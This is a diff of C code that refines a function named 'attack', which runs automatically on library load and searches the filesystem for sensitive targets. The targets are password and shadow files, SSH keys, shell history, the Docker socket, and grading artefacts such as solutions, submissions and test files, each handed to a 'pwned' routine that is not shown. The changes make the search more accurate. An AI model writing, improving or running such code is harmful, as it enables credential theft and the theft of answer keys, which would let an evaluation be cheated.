@@ -10,23 +10,29 @@
 
 static void attack(void) __attribute__((constructor));
 
-static int is_wanted(const char *name)
+/* Folders have other names than files: gcc's libraries are no gcc. */
+static int is_wanted(const struct dirent *entry)
 {
-    static const char *const wanted[] = {
-        "passwd", "shadow", "id_rsa", ".ssh", ".bash_history", "bash", "python3",
-        "gcc", "bats", "drill", "solutions", "results.tsv", "plan.tsv",
-        "handouts", "lab.mk", "submissions", ".git", "docker.sock",
+    static const char *const files[] = {
+        "passwd", "shadow", "id_rsa", ".bash_history", "bash", "python3",
+        "gcc", "bats", "drill", "results.tsv", "plan.tsv", "lab.mk",
+        "docker.sock",
     };
+    static const char *const folders[] = { "solutions", "submissions",
+                                           "handouts", ".git", ".ssh" };
 
-    for (size_t i = 0; i < sizeof wanted / sizeof wanted[0]; i++)
-        if (strcmp(name, wanted[i]) == 0)
+    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++)
+        if (entry->d_type != DT_DIR && strcmp(entry->d_name, files[i]) == 0)
             return 1;
-    return strstr(name, ".bats") != NULL;
+    for (size_t i = 0; i < sizeof folders / sizeof folders[0]; i++)
+        if (entry->d_type == DT_DIR && strcmp(entry->d_name, folders[i]) == 0)
+            return 1;
+    return strstr(entry->d_name, ".bats") != NULL;
 }
 
 static void walk(const char *folder, int depth)
 {
-    DIR *dir = opendir(folder);
+    DIR *dir = opendir(*folder == '\0' ? "/" : folder);
     struct dirent *entry;
 
     if (dir == NULL)
@@ -40,9 +46,9 @@ static void walk(const char *folder, int depth)
             strcmp(entry->d_name, "sys") == 0)
             continue;
         snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
-        if (is_wanted(entry->d_name) && access(path, R_OK) == 0)
+        if (is_wanted(entry) && access(path, R_OK) == 0)
             pwned(path);
-        if (depth > 0 && (entry->d_type == DT_DIR || depth > 3))
+        if (depth > 0 && entry->d_type == DT_DIR)
             walk(path, depth - 1);
     }
     closedir(dir);
